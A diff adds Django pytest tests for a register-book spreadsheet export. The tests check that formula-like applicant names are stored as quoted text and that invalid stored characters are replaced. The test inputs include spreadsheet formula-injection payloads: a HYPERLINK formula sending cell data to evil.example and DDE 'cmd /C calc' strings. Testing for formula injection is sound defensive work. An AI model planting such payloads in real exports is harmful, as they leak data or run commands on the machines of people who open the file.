@@ -7,7 +7,7 @@ from pytest_django.fixtures import Settings
 from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
-from motcua.accounts.models import User
+from motcua.accounts.models import Applicant, User
 from motcua.dossiers.tests.slip_helpers import page_size_mm, pdf_text, walk
 
 pytestmark = pytest.mark.django_db
@@ -74,3 +74,60 @@ def test_register_book_xlsx_for_officers_of_the_agency() -> None:
     assert refused.status_code == 403
     assert bad.status_code == 400
     assert {e["path"] for e in bad.json()["errors"]} == {"agency", "from", "to"}
+
+
+def _register_cells(response_content: bytes) -> list[tuple[object, str]]:
+    sheet = load_workbook(BytesIO(response_content)).active
+    assert sheet is not None
+    return [(cell.value, cell.data_type) for row in sheet.iter_rows(min_row=6) for cell in row]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+        "+84 912 345 678",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_register_book_writes_a_formula_like_name_as_text(name: str) -> None:
+    walked = walk()
+    world = walked.world
+    Applicant.objects.filter(pk=walked.returned.applicant_id).update(name=name, address=name)
+    url = f"/api/v1/register-book/?agency={world.centre.code}&from=2026-03-01&to=2026-03-31"
+
+    response = client_for(world.receiver).get(url)
+
+    assert response.status_code == 200
+    sheet = load_workbook(BytesIO(response.content)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows(min_row=6) for cell in row if cell.value == name]
+    assert cells, "the name is written exactly as accepted"
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
+    assert all(value is None or type_ != "f" for value, type_ in _register_cells(response.content))
+
+
+def test_exports_survive_a_stored_character_no_export_can_carry() -> None:
+    # given: legacy data, stored before the edge refused such characters
+    walked = walk()
+    world = walked.world
+    code = walked.returned.code
+    Applicant.objects.filter(pk=walked.returned.applicant_id).update(
+        name="Nguyễn\ufffeVăn\x01An\uffff", address="Số 1\x0b phố Huế"
+    )
+    client = client_for(world.receiver)
+    url = f"/api/v1/register-book/?agency={world.centre.code}&from=2026-03-01&to=2026-03-31"
+
+    # when
+    book = client.get(url)
+    slips = [client.get(f"/api/v1/dossiers/{code}/slips/{form}/") for form in ("01", "02", "06")]
+
+    # then
+    assert book.status_code == 200
+    names = [value for value, _type in _register_cells(book.content) if value]
+    assert "Nguyễn\ufffdVăn\ufffdAn\ufffd" in names
+    assert [slip.status_code for slip in slips] == [200, 200, 200]
+    assert all(slip["Content-Type"] == "application/pdf" for slip in slips)
